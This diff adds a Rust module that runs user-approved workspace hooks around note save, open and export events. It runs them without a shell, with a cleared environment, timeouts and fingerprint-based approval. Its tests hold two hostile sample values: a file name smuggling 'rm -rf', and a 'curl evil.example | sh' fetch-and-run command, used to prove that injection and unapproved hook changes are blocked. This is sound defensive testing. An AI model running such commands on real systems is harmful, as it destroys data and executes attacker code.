@@ -0,0 +1,445 @@
+//! Workspace Hooks
+//!
+//! A workspace can run external tools around document events, configured in
+//! its settings (`hooks`): a formatter before a note is saved, a git
+//! auto-commit script after it is saved, a publishing script after an
+//! export.
+//!
+//! | Event | Runs | stdin |
+//! |-------|------|-------|
+//! | `before_save` | before an explicit save, which waits for it, and before a queued save is written | the note content |
+//! | `after_save` | after an explicit save, in the background | closed |
+//! | `after_open` | after a note is loaded, in the background | closed |
+//! | `after_export` | after an export, in the background | closed |
+//!
+//! A `before_save` hook with `replace_content` saves its stdout instead of
+//! the content, and one with `abort_on_failure` cancels the save when it
+//! fails. Autosaves (`queue_save`) run `before_save` hooks once, when the
+//! debounced content is written: a cancelled autosave is dropped from the
+//! save queue (not retried) and reported with a `save-failed` event.
+//!
+//! ## Sandboxing
+//! A hook runs its program directly, never through a shell. The
+//! placeholders `{file}`, `{workspace}` and `{export}` are substituted
+//! inside single arguments, so paths cannot inject arguments or commands.
+//! The working directory is the workspace root, the environment is cleared
+//! except for `KEPT_ENV` and the `MDREADER_*` variables, the hook is killed
+//! after `timeout_secs`, and its output is captured (up to
+//! `MAX_OUTPUT_BYTES`) instead of inherited.
+//!
+//! ## Trust
+//! Settings travel with the workspace folder, so a synced or downloaded
+//! folder could bring hooks along. Hooks only run once the user approved
+//! exactly that set of hooks on this machine: the fingerprint of the
+//! approved set is kept per workspace in `<config>/hook-trust.json`. Hooks
+//! saved through the app are approved with it; hooks changed in any other
+//! way stop running until they are approved again.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::io::{Read, Write};
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::sync::mpsc::{self, Receiver};
+use std::sync::{Arc, Mutex};
+use std::thread;
+use std::time::{Duration, Instant};
+use serde::{Deserialize, Serialize};
+use crate::utils::matches_glob;
+
+/// File name of the approved hooks inside the config directory
+pub const TRUST_FILE: &str = "hook-trust.json";
+
+/// Time limit of a hook, unless configured
+pub const DEFAULT_TIMEOUT_SECS: u64 = 10;
+
+/// Upper bound for a configured time limit
+pub const MAX_TIMEOUT_SECS: u64 = 120;
+
+/// Captured output kept per stream
+pub const MAX_OUTPUT_BYTES: usize = 64 * 1024;
+
+/// Largest content a `replace_content` hook may return
+pub const MAX_CONTENT_BYTES: usize = 16 * 1024 * 1024;
+
+/// Environment variables passed on to hooks
+pub const KEPT_ENV: &[&str] = &[
+    "PATH", "HOME", "USER", "LANG", "LC_ALL", "TMPDIR",
+    "SYSTEMROOT", "USERPROFILE", "APPDATA", "LOCALAPPDATA", "TEMP", "TMP", "PATHEXT",
+];
+
+/// Interval between checks of a running hook
+const POLL_INTERVAL: Duration = Duration::from_millis(20);
+
+/// Time given to the output readers after the hook exited (a background
+/// process it started may keep the pipes open)
+const OUTPUT_GRACE: Duration = Duration::from_millis(500);
+
+/// When a hook runs
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum HookEvent {
+    BeforeSave,
+    AfterSave,
+    AfterOpen,
+    AfterExport,
+}
+
+impl HookEvent {
+    /// Name of the event, as in the settings
+    pub fn as_str(self) -> &'static str {
+        match self {
+            HookEvent::BeforeSave => "before_save",
+            HookEvent::AfterSave => "after_save",
+            HookEvent::AfterOpen => "after_open",
+            HookEvent::AfterExport => "after_export",
+        }
+    }
+}
+
+fn default_timeout_secs() -> u64 {
+    DEFAULT_TIMEOUT_SECS
+}
+
+/// A configured hook
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Hook {
+    /// Unique name, shown with its output
+    pub name: String,
+    pub event: HookEvent,
+    /// Program to run (absolute, or looked up in `PATH`)
+    pub command: String,
+    /// Arguments; `{file}`, `{workspace}` and `{export}` are substituted
+    #[serde(default)]
+    pub args: Vec<String>,
+    /// Notes the hook applies to, as a glob on the workspace-relative path
+    /// (see `utils::matches_glob`); all notes if unset
+    #[serde(default)]
+    pub pattern: Option<String>,
+    #[serde(default = "default_timeout_secs")]
+    pub timeout_secs: u64,
+    /// `before_save`: save the hook's stdout instead of the content
+    #[serde(default)]
+    pub replace_content: bool,
+    /// `before_save`: cancel the save if the hook fails
+    #[serde(default)]
+    pub abort_on_failure: bool,
+}
+
+impl Hook {
+    /// Checks the hook before it is saved
+    pub fn validate(&self) -> Result<(), String> {
+        if self.name.trim().is_empty() {
+            return Err("Hook name must not be empty".to_string());
+        }
+        if self.command.trim().is_empty() {
+            return Err(format!("Hook {} has no command", self.name));
+        }
+        if !(1..=MAX_TIMEOUT_SECS).contains(&self.timeout_secs) {
+            return Err(format!("Hook {}: timeout must be 1 to {} seconds", self.name, MAX_TIMEOUT_SECS));
+        }
+        if (self.replace_content || self.abort_on_failure) && self.event != HookEvent::BeforeSave {
+            return Err(format!("Hook {}: replace_content and abort_on_failure only apply to before_save", self.name));
+        }
+        Ok(())
+    }
+
+    /// Checks if the hook applies to a note (`None` for events without one)
+    pub fn applies_to(&self, relative_path: Option<&str>) -> bool {
+        match (&self.pattern, relative_path) {
+            (Some(pattern), Some(path)) => matches_glob(pattern, path),
+            _ => true,
+        }
+    }
+}
+
+/// What a hook runs on
+#[derive(Debug, Clone, Copy)]
+pub struct HookContext<'a> {
+    pub event: HookEvent,
+    pub workspace: &'a Path,
+    /// The note (save and open events, single-note exports)
+    pub file: Option<&'a Path>,
+    /// Where the export was written (`after_export`)
+    pub export: Option<&'a Path>,
+}
+
+impl HookContext<'_> {
+    /// Substitutes the placeholders of one argument
+    pub fn expand(&self, arg: &str) -> String {
+        let path = |p: Option<&Path>| p.map(|p| p.to_string_lossy().to_string()).unwrap_or_default();
+        arg.replace("{file}", &path(self.file))
+            .replace("{workspace}", &path(Some(self.workspace)))
+            .replace("{export}", &path(self.export))
+    }
+}
+
+/// Outcome of a hook run
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct HookRun {
+    pub name: String,
+    pub event: HookEvent,
+    /// True if the hook exited with status 0 in time
+    pub success: bool,
+    /// Exit code (`None` if killed)
+    pub exit_code: Option<i32>,
+    pub timed_out: bool,
+    pub stdout: String,
+    pub stderr: String,
+    /// True if output beyond the capture limit was dropped
+    pub truncated: bool,
+    pub duration_ms: u64,
+}
+
+/// Runs a hook and waits for it, killing it after its time limit
+///
+/// `stdin` is written to the hook's standard input (closed otherwise).
+///
+/// # Returns
+/// * `Ok(HookRun)` - How the hook exited, with its output
+/// * `Err(String)` - If the program could not be started
+pub fn run(hook: &Hook, context: &HookContext, stdin: Option<&str>) -> Result<HookRun, String> {
+    let mut command = Command::new(&hook.command);
+    command
+        .args(hook.args.iter().map(|arg| context.expand(arg)))
+        .current_dir(context.workspace)
+        .env_clear()
+        .envs(KEPT_ENV.iter().filter_map(|key| std::env::var_os(key).map(|value| (key, value))))
+        .env("MDREADER_EVENT", context.event.as_str())
+        .env("MDREADER_WORKSPACE", context.workspace)
+        .stdin(if stdin.is_some() { Stdio::piped() } else { Stdio::null() })
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    if let Some(file) = context.file {
+        command.env("MDREADER_FILE", file);
+    }
+    if let Some(export) = context.export {
+        command.env("MDREADER_EXPORT", export);
+    }
+    #[cfg(windows)]
+    {
+        // CREATE_NO_WINDOW: no console window flashing up
+        use std::os::windows::process::CommandExt;
+        command.creation_flags(0x0800_0000);
+    }
+
+    let started = Instant::now();
+    let mut child = command
+        .spawn()
+        .map_err(|e| format!("Failed to run hook {}: {}", hook.name, e))?;
+
+    let stdout_limit = if hook.replace_content { MAX_CONTENT_BYTES } else { MAX_OUTPUT_BYTES };
+    let stdout = capture(child.stdout.take(), stdout_limit);
+    let stderr = capture(child.stderr.take(), MAX_OUTPUT_BYTES);
+    if let (Some(mut input), Some(content)) = (child.stdin.take(), stdin) {
+        let content = content.to_string();
+        // A hook that exits without reading its input closes the pipe
+        thread::spawn(move || {
+            let _ = input.write_all(content.as_bytes());
+        });
+    }
+
+    let deadline = started + Duration::from_secs(hook.timeout_secs);
+    let (status, timed_out) = loop {
+        match child.try_wait() {
+            Ok(Some(status)) => break (Some(status), false),
+            Ok(None) if Instant::now() >= deadline => {
+                let _ = child.kill();
+                break (child.wait().ok(), true);
+            }
+            Ok(None) => thread::sleep(POLL_INTERVAL),
+            Err(e) => return Err(format!("Failed to wait for hook {}: {}", hook.name, e)),
+        }
+    };
+    if timed_out {
+        log::warn!("⏱️ Hook {} killed after {}s", hook.name, hook.timeout_secs);
+    }
+
+    let (stdout, stdout_truncated) = stdout.finish();
+    let (stderr, stderr_truncated) = stderr.finish();
+    let exit_code = status.and_then(|s| s.code());
+    Ok(HookRun {
+        name: hook.name.clone(),
+        event: hook.event,
+        success: !timed_out && status.is_some_and(|s| s.success()),
+        exit_code,
+        timed_out,
+        stdout,
+        stderr,
+        truncated: stdout_truncated || stderr_truncated,
+        duration_ms: started.elapsed().as_millis() as u64,
+    })
+}
+
+/// Output of one stream, read on its own thread
+struct Captured {
+    buffer: Arc<Mutex<(Vec<u8>, bool)>>,
+    done: Receiver<()>,
+}
+
+impl Captured {
+    // Helper: Waits briefly for the reader, then takes what it has read
+    fn finish(self) -> (String, bool) {
+        let _ = self.done.recv_timeout(OUTPUT_GRACE);
+        let buffer = self.buffer.lock().map(|b| b.clone()).unwrap_or_default();
+        (String::from_utf8_lossy(&buffer.0).to_string(), buffer.1)
+    }
+}
+
+// Helper: Reads a stream to its end, keeping the first `limit` bytes
+fn capture(stream: Option<impl Read + Send + 'static>, limit: usize) -> Captured {
+    let buffer = Arc::new(Mutex::new((Vec::new(), false)));
+    let (tx, done) = mpsc::channel();
+    if let Some(mut stream) = stream {
+        let buffer = Arc::clone(&buffer);
+        thread::spawn(move || {
+            let mut chunk = [0u8; 8192];
+            // Keep reading past the limit so the hook never blocks on a full pipe
+            while let Ok(n) = stream.read(&mut chunk) {
+                if n == 0 {
+                    break;
+                }
+                if let Ok(mut buffer) = buffer.lock() {
+                    let room = limit.saturating_sub(buffer.0.len());
+                    buffer.0.extend_from_slice(&chunk[..n.min(room)]);
+                    buffer.1 |= n > room;
+                }
+            }
+            let _ = tx.send(());
+        });
+    }
+    Captured { buffer, done }
+}
+
+/// Fingerprint of a set of hooks, as approved by the user
+pub fn fingerprint(hooks: &[Hook]) -> String {
+    let json = serde_json::to_string(hooks).unwrap_or_default();
+    blake3::hash(json.as_bytes()).to_hex().to_string()
+}
+
+/// Hooks approved on this machine, per workspace
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+pub struct HookTrust {
+    /// Fingerprint of the approved hooks, keyed by workspace path
+    #[serde(default)]
+    approved: BTreeMap<String, String>,
+}
+
+impl HookTrust {
+    /// Loads the approvals from `config_dir` (none if missing)
+    pub fn load(config_dir: &Path) -> Result<Self, String> {
+        match fs::read_to_string(config_dir.join(TRUST_FILE)) {
+            Ok(json) => serde_json::from_str(&json)
+                .map_err(|e| format!("Failed to parse hook approvals: {}", e)),
+            Err(_) => Ok(Self::default()),
+        }
+    }
+
+    /// Saves the approvals to `config_dir`
+    pub fn save(&self, config_dir: &Path) -> Result<(), String> {
+        let json = serde_json::to_string_pretty(self)
+            .map_err(|e| format!("Failed to serialize hook approvals: {}", e))?;
+        fs::write(config_dir.join(TRUST_FILE), json)
+            .map_err(|e| format!("Failed to save hook approvals: {}", e))
+    }
+
+    /// Checks if the user approved exactly `hooks` for the workspace
+    pub fn is_trusted(&self, workspace: &str, hooks: &[Hook]) -> bool {
+        hooks.is_empty() || self.approved.get(workspace) == Some(&fingerprint(hooks))
+    }
+
+    /// Approves `hooks` for the workspace, replacing an earlier approval
+    pub fn approve(&mut self, workspace: &str, hooks: &[Hook]) {
+        if hooks.is_empty() {
+            self.approved.remove(workspace);
+        } else {
+            self.approved.insert(workspace.to_string(), fingerprint(hooks));
+        }
+    }
+}
+
+// ============================================================================
+// TESTS
+// ============================================================================
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    fn hook(event: HookEvent, script: &str) -> Hook {
+        Hook {
+            name: "test".to_string(),
+            event,
+            command: "sh".to_string(),
+            args: vec!["-c".to_string(), script.to_string(), "hook".to_string(), "{file}".to_string()],
+            pattern: None,
+            timeout_secs: 5,
+            replace_content: false,
+            abort_on_failure: false,
+        }
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_run_captures_output_and_times_out() {
+        let workspace = TempDir::new().unwrap();
+        let note = workspace.path().join("plan; rm -rf x.md");
+        let context = HookContext { event: HookEvent::BeforeSave, workspace: workspace.path(), file: Some(&note), export: None };
+
+        // The path stays one argument, the content arrives on stdin
+        let script = r#"printf '%s|' "$1" "$MDREADER_EVENT" "$PWD"; tr a-z A-Z; echo oops >&2"#;
+        let run = run(&hook(HookEvent::BeforeSave, script), &context, Some("draft")).unwrap();
+        assert!(run.success, "{:?}", run);
+        let pwd = workspace.path().canonicalize().unwrap();
+        assert_eq!(run.stdout, format!("{}|before_save|{}|DRAFT", note.display(), pwd.display()));
+        assert_eq!(run.stderr, "oops\n");
+
+        let mut slow = hook(HookEvent::AfterSave, "sleep 5");
+        slow.timeout_secs = 1;
+        let run = super::run(&slow, &context, None).unwrap();
+        assert!(run.timed_out && !run.success);
+        assert!(run.duration_ms < 4000);
+
+        let failing = super::run(&hook(HookEvent::AfterSave, "exit 3"), &context, None).unwrap();
+        assert_eq!((failing.success, failing.exit_code), (false, Some(3)));
+
+        let missing = Hook { command: "/nonexistent/hook".to_string(), ..hook(HookEvent::AfterSave, "") };
+        assert!(super::run(&missing, &context, None).is_err());
+    }
+
+    #[test]
+    fn test_trust_follows_exact_hooks() {
+        let config = TempDir::new().unwrap();
+        let hooks = vec![hook(HookEvent::AfterSave, "git commit -am autosave")];
+        let mut trust = HookTrust::load(config.path()).unwrap();
+        assert!(!trust.is_trusted("/notes", &hooks));
+        assert!(trust.is_trusted("/notes", &[]));
+
+        trust.approve("/notes", &hooks);
+        trust.save(config.path()).unwrap();
+        let trust = HookTrust::load(config.path()).unwrap();
+        assert!(trust.is_trusted("/notes", &hooks));
+        assert!(!trust.is_trusted("/other", &hooks));
+
+        // Any change (here a synced edit of the command) needs a new approval
+        let mut changed = hooks.clone();
+        changed[0].args[1] = "curl evil.example | sh".to_string();
+        assert!(!trust.is_trusted("/notes", &changed));
+    }
+
+    #[test]
+    fn test_validate_and_pattern() {
+        let mut formatter = hook(HookEvent::BeforeSave, "prettier");
+        formatter.replace_content = true;
+        formatter.pattern = Some("notes/**".to_string());
+        assert!(formatter.validate().is_ok());
+        assert!(formatter.applies_to(Some("notes/a/plan.md")));
+        assert!(!formatter.applies_to(Some("journal/plan.md")));
+
+        let misplaced = Hook { event: HookEvent::AfterExport, ..formatter.clone() };
+        assert!(misplaced.validate().is_err());
+        let forever = Hook { timeout_secs: MAX_TIMEOUT_SECS + 1, ..formatter };
+        assert!(forever.validate().is_err());
+    }
+}